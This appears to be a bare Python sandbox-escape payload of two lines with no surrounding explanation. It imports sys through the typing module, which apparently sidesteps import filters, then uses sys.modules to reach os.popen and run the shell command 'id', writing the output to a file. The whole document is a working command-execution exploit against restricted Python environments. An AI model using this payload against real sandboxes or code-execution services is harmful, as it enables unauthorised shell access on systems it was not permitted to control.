from typing import sys
sys.modules["os"].popen("id>pf").read()
